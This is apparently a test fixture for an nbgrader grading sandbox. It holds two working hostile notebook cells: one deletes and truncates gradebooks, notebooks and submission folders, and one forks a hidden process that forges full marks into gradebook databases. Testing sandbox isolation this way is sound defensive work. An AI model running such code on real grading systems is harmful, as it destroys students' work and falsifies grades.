"""Submissions that attack the files around them instead of answering (01_pingpong).

Each is a notebook plus one learner cell. They only ever aim at /tmp and the folders above
their working folder, where a test's scratch course lives, so that a sandbox that failed to
hide the class could damage only the test's own copy; the tests that use them run only where
the grading sandbox works.

- "aaa_wrecker" (graded first) and "zzz_wrecker" (graded last): the solution, and after its
  first answer a cell that truncates every gradebook it can find, deletes every file in any
  submitted/, autograded/, feedback/ or source/ folder, and rewrites every notebook.
- "forger": the untouched release, ending with a cell that leaves a process behind which keeps
  writing full marks into any gradebook it finds while nbgrader records the scores.
"""

from __future__ import annotations

WRECK = """\
import os
wrecked = []
def wreck(path):
    try:
        if path.endswith(".db") or path.endswith(".ipynb"):
            open(path, "w").close()
        else:
            os.remove(path)
        wrecked.append(path)
    except OSError:
        pass
def targets(folder, deep):
    for root, _, files in os.walk(folder):
        for f in files:
            p = os.path.join(root, f)
            parts = set(p.split(os.sep))
            if f.startswith("gradebook") or f.endswith(".ipynb") or parts & {
                "submitted", "autograded", "feedback", "source"
            }:
                yield p
        if not deep:
            break
here = os.path.abspath(".")
while here != os.path.dirname(here):
    here = os.path.dirname(here)
    for p in list(targets(here, deep=here.startswith("/tmp") and here.count(os.sep) > 2)):
        wreck(p)
for p in list(targets("/tmp", deep=True)):
    wreck(p)
print(len(wrecked), "files wrecked")
"""

FORGE = """\
import glob, os, sqlite3, time
FULL = (
    "UPDATE grade SET auto_score = "
    "(SELECT max_score FROM grade_cells g WHERE g.id = grade.cell_id)"
)
def forge(seconds=240):
    books = {os.path.abspath(os.path.join("..", "..", "..", "gradebook.db"))}
    end = time.time() + seconds
    while time.time() < end:
        books |= set(glob.glob("/tmp/**/gradebook*.db", recursive=True))
        for book in books:
            try:
                db = sqlite3.connect(book, timeout=1)
                db.execute(FULL)
                db.commit()
                db.close()
            except Exception:
                pass
        time.sleep(0.2)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            forge()
        finally:
            os._exit(0)
    os._exit(0)
"""

WRECKERS = ("aaa_wrecker", "zzz_wrecker")
FORGER = "forger"


def with_cell(nb: dict, source: str, after: str | None = None) -> dict:
    """nb with a learner code cell holding `source`, after the cell of grade_id `after` (at
    the end when None)."""
    cell = {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }
    cells = nb["cells"]
    if after is None:
        cells.append(cell)
    else:
        at = next(
            i
            for i, c in enumerate(cells)
            if c["metadata"].get("nbgrader", {}).get("grade_id") == after
        )
        cells.insert(at + 1, cell)
    return nb
